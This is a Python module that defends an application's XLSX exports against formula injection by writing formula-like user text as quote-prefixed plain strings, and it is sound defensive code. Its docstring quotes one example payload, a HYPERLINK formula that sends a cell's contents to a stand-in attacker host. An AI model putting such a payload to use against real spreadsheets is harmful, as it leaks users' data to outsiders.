"""The one way the application puts a value into an XLSX cell (formula injection defused).

Text typed by users (a progress note, a unit's name, a criterion's guidance) ends up in the
workbooks the worker builds, the list exports and the checklist template export. Text that starts
with ``= + - @``, a tab or a carriage return is what Excel and LibreOffice treat as a formula
(``=HYPERLINK("http://evil.example/?x="&C5,"Xem")`` would become a live link leaking the sheet):
such text is stored as a plain string cell with the "quote prefix" style (Excel's leading
apostrophe), so it is shown exactly as typed, never evaluated, and stays a formula-free string
when the user edits the cell. The text itself is not changed: files read back (the checklist
template import) get what was exported.
"""

import re
from decimal import Decimal

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# XML 1.0 forbids these control characters; openpyxl refuses them.
ILLEGAL_XML = re.compile(r"[\000-\010]|[\013-\014]|[\016-\037]")


def is_formula_like(value) -> bool:
    """True for text a spreadsheet would evaluate if it were typed into a cell."""
    return isinstance(value, str) and value.startswith(FORMULA_START)


def clean_value(value):
    """The value as openpyxl may store it: Decimals as floats, text without XML-illegal characters."""
    if isinstance(value, Decimal):
        return float(value)
    if isinstance(value, str):
        return ILLEGAL_XML.sub("", value)
    return value


def defuse(cell):
    """Make ``cell`` a plain, quote-prefixed string if its text would run as a formula."""
    if is_formula_like(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def write_cell(sheet, row: int, column: int, value):
    """Write ``value`` at (row, column) of an ordinary worksheet; returns the cell."""
    cell = sheet.cell(row=row, column=column)
    cell.value = clean_value(value)
    return defuse(cell)


def write_only_cell(sheet, value):
    """A cell for ``sheet.append`` on a write-only worksheet (or any worksheet)."""
    from openpyxl.cell import WriteOnlyCell

    return defuse(WriteOnlyCell(sheet, value=clean_value(value)))


def append_row(sheet, values) -> None:
    """``sheet.append(values)``, ordinary or write-only, every value through :func:`write_only_cell`."""
    sheet.append([write_only_cell(sheet, value) for value in values])
